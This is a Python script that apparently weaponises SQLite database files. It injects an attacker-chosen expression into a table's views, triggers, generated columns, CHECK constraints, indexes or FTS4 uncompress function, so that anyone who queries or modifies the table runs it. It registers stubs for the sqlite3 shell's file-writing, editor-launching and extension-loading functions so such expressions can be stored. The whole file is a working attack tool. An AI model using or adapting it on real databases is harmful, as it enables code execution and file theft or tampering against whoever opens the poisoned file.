"""evil_database.py DATABASE TABLE KIND EXPRESSION: puts EXPRESSION into TABLE, so that whoever reads or writes the
table runs it. KIND says where: in a view with triggers in its place, a trigger, a generated column, a CHECK, an index, or an FTS4
table that unpacks its values with the function of the expression."""
import sqlite3
import sys

path, table, kind, expression = sys.argv[1:]
database = sqlite3.connect(path)
# To store the expression, SQLite must know its functions, and those of an index must be deterministic.
for name in "edit", "readfile", "writefile", "load_extension", "shell_putsnl":
    database.create_function(name, -1, lambda *arguments: 1, deterministic=True)
database.execute("PRAGMA legacy_alter_table = on")
columns = [row[1] for row in database.execute(f"PRAGMA table_info({table})")]
if kind == "view":
    database.execute(f"ALTER TABLE {table} RENAME TO real_{table}")
    evil = f"WHERE {expression} IS NOT NULL"
    database.execute(f"CREATE VIEW {table} AS SELECT * FROM real_{table} {evil} UNION ALL SELECT "
                     + ", ".join([expression] * len(columns)))
if kind in ("view", "trigger"):
    when = "INSTEAD OF" if kind == "view" else "BEFORE"
    for event in "INSERT", "UPDATE", "DELETE":
        database.execute(f"CREATE TRIGGER {event}_{table} {when} {event} ON {table} BEGIN SELECT {expression}; END")
elif kind == "generated":
    database.execute(f"ALTER TABLE {table} ADD COLUMN evil INT AS ({expression})")
    database.execute(f"CREATE INDEX evil_{table} ON {table} (evil)")
elif kind == "check":
    database.execute(f"ALTER TABLE {table} ADD COLUMN evil INT CHECK ({expression} IS NOT NULL)")
elif kind == "index":
    database.execute(f"CREATE INDEX evil_{table} ON {table} ({expression})")
elif kind == "fts":
    function = expression.split("(")[0]
    database.execute(f"DROP TABLE {table}")
    database.execute(f"CREATE VIRTUAL TABLE {table} USING fts4({', '.join(columns)}, compress=lower, uncompress={function})")
    database.execute(f"INSERT INTO {table} VALUES ({', '.join(['?'] * len(columns))})", ["hidden"] * len(columns))
database.commit()
